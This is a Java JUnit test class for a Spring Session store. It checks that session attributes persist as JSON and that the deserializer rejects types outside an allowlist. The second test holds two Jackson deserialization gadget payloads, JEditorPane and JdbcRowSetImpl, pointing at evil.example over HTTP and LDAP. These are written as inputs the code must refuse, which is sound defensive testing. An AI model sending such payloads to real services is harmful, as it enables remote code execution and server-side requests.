package cn.qiaotong.signin;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import cn.qiaotong.Database;
import java.util.Map;
import javax.sql.DataSource;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.springframework.core.convert.ConversionFailedException;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.jdbc.datasource.DataSourceTransactionManager;
import org.springframework.security.oauth2.core.endpoint.OAuth2AuthorizationRequest;
import org.springframework.session.Session;
import org.springframework.session.SessionRepository;
import org.springframework.session.jdbc.JdbcIndexedSessionRepository;
import org.springframework.transaction.support.TransactionTemplate;

class SessionsTests {

    @ParameterizedTest
    @EnumSource(Database.class)
    void outliveTheProgramAsJson(Database database) {
        var source = database.migrated();
        var leaving = OAuth2AuthorizationRequest.authorizationCode()
                .authorizationUri("http://127.0.0.1:8180/auth")
                .clientId("qiaotong")
                .state("state")
                .attributes(Map.of("nonce", "n"))
                .build();
        var id = saved(sessions(source), leaving);

        Session session = sessions(source).findById(id);

        assertThat(session.<OAuth2AuthorizationRequest>getAttribute("leaving").getAttributes())
                .containsEntry("nonce", "n");
        assertThat(session.<String>getAttribute(SessionContexts.SUBJECT)).isEqualTo("subject");
        assertThat(sessions(source).findByPrincipalName("subject")).containsOnlyKeys(id);
        assertThat(JdbcClient.create(source)
                        .sql("select attribute_bytes from spring_session_attributes")
                        .query((row, number) -> new String(row.getBytes(1), UTF_8))
                        .list())
                .hasSize(2)
                .allMatch(json -> json.startsWith("\"") || json.startsWith("{\"@class\""));
    }

    @Test
    void refuseATypeThatNobodyListed() {
        var conversion = new Sessions().springSessionConversionService();
        var planted = "{\"@class\":\"javax.swing.JEditorPane\",\"page\":\"http://evil.example\"}".getBytes(UTF_8);
        var typedArray =
                "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://evil.example\"}]".getBytes(UTF_8);

        assertThatThrownBy(() -> conversion.convert(planted, Object.class))
                .isInstanceOf(ConversionFailedException.class)
                .rootCause()
                .hasMessageContaining("JEditorPane is not in the allowlist");
        assertThat(conversion.convert("\"text\"".getBytes(UTF_8), Object.class)).isEqualTo("text");
        assertThatThrownBy(() -> conversion.convert(typedArray, Object.class))
                .isInstanceOf(ConversionFailedException.class);
    }

    private static <S extends Session> String saved(SessionRepository<S> sessions, Object leaving) {
        var session = sessions.createSession();
        session.setAttribute("leaving", leaving);
        session.setAttribute(SessionContexts.SUBJECT, "subject");
        sessions.save(session);
        return session.getId();
    }

    private static JdbcIndexedSessionRepository sessions(DataSource source) {
        var repository = new JdbcIndexedSessionRepository(
                new JdbcTemplate(source), new TransactionTemplate(new DataSourceTransactionManager(source)));
        repository.setConversionService(new Sessions().springSessionConversionService());
        return repository;
    }
}
